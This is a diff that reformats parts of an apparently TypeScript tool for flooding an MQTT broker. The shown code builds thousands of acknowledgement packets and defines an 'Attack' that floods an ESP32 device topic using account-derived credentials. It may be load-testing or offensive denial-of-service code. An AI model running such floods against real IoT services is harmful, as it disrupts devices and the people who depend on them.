@@ -42,7 +42,10 @@ async function drained(socket: Socket, signal: AbortSignal): Promise<void> {
 /** Acknowledgements of nothing, each of which has two bytes of content. */
 const acknowledgements = Buffer.concat(
   Array.from({ length: 4_000 }, (_, index) =>
-    generate({ cmd: (['pubrel', 'pubrec', 'puback', 'pubcomp'] as const)[index % 4] ?? 'puback', messageId: 1 + index }),
+    generate({
+      cmd: (['pubrel', 'pubrec', 'puback', 'pubcomp'] as const)[index % 4] ?? 'puback',
+      messageId: 1 + index,
+    }),
   ),
 );
 
@@ -79,6 +82,11 @@ export const wideJson: Attack = {
     const espid = 'ESP32-D0WDQ6-100_dd000003';
     const topic = `/${espid}/data/update`;
     const bytes = generate({ cmd: 'publish', topic, payload: wide, qos: 0, retain: false, dup: false });
-    return flood({ order, espid, username: `${email}/${connectionKey}` }, bytes, { tally, signal, packets: 1, pauseMs: 3 });
+    return flood({ order, espid, username: `${email}/${connectionKey}` }, bytes, {
+      tally,
+      signal,
+      packets: 1,
+      pauseMs: 3,
+    });
   },
 };
